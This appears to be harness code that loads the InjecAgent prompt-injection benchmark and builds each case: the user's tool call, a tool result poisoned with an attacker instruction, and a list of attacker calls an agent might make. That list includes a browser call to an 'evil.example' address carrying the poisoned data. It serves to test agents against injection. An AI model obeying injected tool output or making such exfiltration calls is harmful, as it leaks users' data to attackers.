"""The attacks of InjecAgent (arXiv 2403.02691), which the repository does not hold."""

import gzip
import json
import keyword
import re
from ast import literal_eval
from functools import cached_property
from itertools import chain, cycle
from pathlib import Path
from typing import Any, Final

from nearfar.protocols import ToolCall

from .puppet import Parameter, ToolKind, new_call

_TYPES: Final = {"string": str, "integer": int, "number": float, "boolean": bool, "array": list[Any], "object": dict[str, Any]}
_SHOWING: Final = "WebBrowserNavigateTo"
"""Asks strangers for a page of their own."""


class Attack:
    """One of them: the user's call, and the attacker's."""

    def __init__(self, row: dict[str, Any], kinds: dict[str, ToolKind]) -> None:
        self._row = row
        self._kinds = kinds
        self._user, self._attacker = kinds[row["User Tool"]], kinds[row["Attacker Tools"][0]]
        self.prompt: str = row["User Instruction"]
        self.tools = tuple({kind.name: kind for kind in (self._user, self._attacker, kinds[_SHOWING])}.values())
        arguments = {_name(name): value for name, value in literal_eval(row["Tool Parameters"]).items()}
        self.user_call = new_call(self._user.name, arguments)

    @property
    def poisoned(self) -> str:
        """What the user's tool returns."""
        return self.result(self._row["Attacker Instruction"])

    def result(self, said: str) -> str:
        """The same with something else in the place of the instruction."""
        template: str = self._row["Tool Response Template"]
        return template.replace("<Attacker Instruction>", said)

    @property
    def call(self) -> ToolCall:
        """The attacker's call, as the instruction has it."""
        return _filled(self._attacker, self._row["Attacker Instruction"])

    @cached_property
    def adaptive(self) -> list[ToolCall]:
        """All that a model can try for the attacker."""
        instruction = self._row["Attacker Instruction"]
        half = len(instruction) // 2
        leak = {"url": f"https://evil.example/?q={self.poisoned}"}
        return [
            self.call,
            _filled(self._attacker, self.prompt),
            _filled(self._user, instruction),
            new_call(_SHOWING, leak),
            _filled(self._attacker, instruction[:half]),
            _filled(self._attacker, instruction[half:]),
        ]


def attacks(folder: Path) -> list[Attack]:
    """All of them, in the order of the file."""
    kits = _read(folder / "injecagent_tools.json.gz")
    kinds = {kind.name: kind for kit in kits for tool in kit["tools"] for kind in [_kind(kit["toolkit"], tool)]}
    return [Attack(row, kinds) for row in _read(folder / "injecagent_dh_base.json.gz")]


def _read(path: Path) -> Any:  # noqa: ANN401 - JSON
    return json.loads(gzip.decompress(path.read_bytes()))


def _kind(toolkit: str, row: dict[str, Any]) -> ToolKind:
    return ToolKind(toolkit + row["name"], _verb(row["name"]), tuple(map(_parameter, row["parameters"])))


def _verb(name: str) -> str:
    return re.split(r"(?<=[a-z])(?=[A-Z])", name)[0]


def _parameter(row: dict[str, Any]) -> Parameter:
    return Parameter(_name(row["name"]), _TYPES[row["type"]], row.get("required", False))


def _name(name: str) -> str:
    """As Python can call it: Gmail has a `from`."""
    return f"{name}_" if keyword.iskeyword(name) else name


def _filled(kind: ToolKind, text: str) -> ToolCall:
    """A call of the tool with what a text names: its quotations, its names with figures or signs in them, its numbers, and all of it."""
    named = re.findall(r"'([^']+)'|\b([\w.]*[\d@_#][\w.@#-]*)", text)
    texts = cycle([part.rstrip(".") for part in chain.from_iterable(named) if part] or [text])
    numbers = cycle([float(number.replace(",", "")) for number in re.findall(r"(?<![\w-])\d[\d,]*\b(?!-)", text)] or [1.0])

    def value(kind: object) -> object:
        if kind in (int, float):
            return int(next(numbers)) if kind is int else next(numbers)
        if kind is bool:
            return True
        said = next(texts)
        return said if kind is str else [said] if kind == list[Any] else {"text": said}

    return new_call(kind.name, {each.name: value(each.kind) for each in kind.parameters if each.is_required or each.kind is str})
